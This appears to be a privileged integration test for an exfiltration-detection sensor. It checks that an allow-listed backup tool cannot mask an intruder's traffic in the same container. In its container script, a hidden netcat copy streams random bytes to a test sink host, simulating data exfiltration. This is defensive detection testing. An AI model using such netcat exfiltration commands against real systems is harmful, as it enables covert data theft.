"""Issue 11 (attribution): bytes belong to the process that sent them. An
intruder streams random bytes (ciphertext) to a destination while an
allow-listed tool in the same container keeps connecting to it. Before,
the flow's process was the last one to connect, so the allow entry for the
tool covered the intruder's bytes and nothing was raised; now the flow's
senders are known per socket (connect events and samples carry the socket
cookie) and an allow entry by executable must match every one of them."""

from __future__ import annotations

from pathlib import Path

from tests.privileged.harness import SINK_IP, Docker, SensorProc, SinkNet, cid_of, run_container

ALLOW = '[[allow]]\nexecutable = "/opt/backup/nc"\ncomment = "the backup tool ships to the sink"\n'


def test_an_allowed_tool_connecting_last_does_not_cover_an_intruders_bytes(
    base: Path, docker: Docker, net: SinkNet
) -> None:
    s = SensorProc(base, docker.sock, name="senders", extra_config=ALLOW)
    s.start()
    try:
        # two copies of busybox (named for its nc applet): the allowed tool
        # and the intruder's binary
        script = (
            "mkdir -p /opt/backup /tmp/.i; cp /bin/busybox /opt/backup/nc; cp /bin/busybox /tmp/.i/nc; "
            "( i=0; while [ $i -lt 4 ]; do head -c 120000 /dev/urandom; sleep 1; i=$((i+1)); done ) "
            f"| /tmp/.i/nc {SINK_IP} 9003 & "
            f"i=0; while [ $i -lt 25 ]; do echo ok | /opt/backup/nc -w 1 {SINK_IP} 9003; "
            "usleep 200000; i=$((i+1)); done; wait"
        )
        cid = run_container(docker, net, script, timeout=90)
        a = s.wait_for(
            lambda d: d["event"]["kind"] == "alert" and cid_of(d) == cid and "senders" in d["sluice"]["evidence"],
            timeout=20,
            what="an alert naming both senders",
        )
        senders = {x["executable"] for x in a["sluice"]["evidence"]["senders"]}
        assert senders == {"/tmp/.i/nc", "/opt/backup/nc"}, a["sluice"]["evidence"]
        # the flow's process is the one that sent the most: the intruder
        assert a["process"]["executable"] == "/tmp/.i/nc", a["process"]
        flows = [
            d
            for d in s.docs()
            if d["event"]["action"] == "flow_summary" and cid_of(d) == cid and "senders" in d["sluice"]["flow"]
        ]
        assert flows and all(d["process"]["executable"] == "/tmp/.i/nc" for d in flows), flows[:2]
    finally:
        assert s.stop() == 0, s.stderr_text()
